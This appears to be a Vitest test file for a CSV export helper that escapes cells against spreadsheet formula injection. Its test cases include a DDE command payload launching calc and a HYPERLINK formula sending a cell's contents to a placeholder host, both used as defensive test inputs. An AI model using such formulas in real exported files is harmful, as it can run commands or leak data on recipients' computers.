import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { csvCell, csvText } from '../../../src/lib/export/csv';
import { seededRandom } from '../catalog/seeded-random';

describe('csvCell', () => {
	it.each([
		['plain', 'dress', 'dress'],
		['with a comma', 'red, long', '"red, long"'],
		['with quotes', 'the "best"', '"the ""best"""'],
		['with a line break', 'a\nb', '"a\nb"'],
		['with space around', ' a ', '" a "'],
		['a formula', '=1+1', "'=1+1"],
		['a command (OWASP)', "=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
		['a link that sends data', '=HYPERLINK("http://x"&A1)', '"\'=HYPERLINK(""http://x""&A1)"'],
		['with plus', '+82 10', "'+82 10"],
		['with minus', '-5', "'-5"],
		['with at', '@SUM(A1)', "'@SUM(A1)"],
		['with a tab before', '\t=1', "'\t=1"],
		['with space before', ' =1', "' =1"],
		['full-width', '＝1', "'＝1"],
		['an address', 'https://a.example/?b=c', 'https://a.example/?b=c']
	])('writes a text %s', (_, text, cell) => {
		expect(csvCell(text)).toBe(cell);
	});

	it('writes numbers as numbers and nothing as nothing', () => {
		expect([csvCell(-4.5), csvCell(0), csvCell(null), csvCell('')]).toEqual(['-4.5', '0', '', '']);
	});
});

describe('csvText', () => {
	it('begins with the byte order mark and ends every row with CRLF', () => {
		expect(
			csvText([
				['a', 1],
				['b', null]
			])
		).toBe('\ufeffa,1\r\nb,\r\n');
	});

	it('is read back by another program, for any text', () => {
		const random = seededRandom(12);
		const alphabet = ['a', ',', '"', '\r', '\n', '\t', ' ', '=', '+', '-', '@', '옷', "'", ';'];
		const text = () =>
			Array.from(
				{ length: Math.floor(random() * 8) },
				() => alphabet[Math.floor(random() * alphabet.length)]
			).join('');
		for (let round = 0; round < 300; round += 1) {
			const rows = Array.from({ length: 3 }, () => ['x', text(), text()]);
			const read = parse(csvText(rows), { bom: true, record_delimiter: '\r\n' });
			const expected = rows.map((row) =>
				row.map((cell) => (/^([\t\r\n]|\s*[=+\-@])/.test(cell) ? `'${cell}` : cell))
			);
			expect(read).toEqual(expected);
		}
	});
});
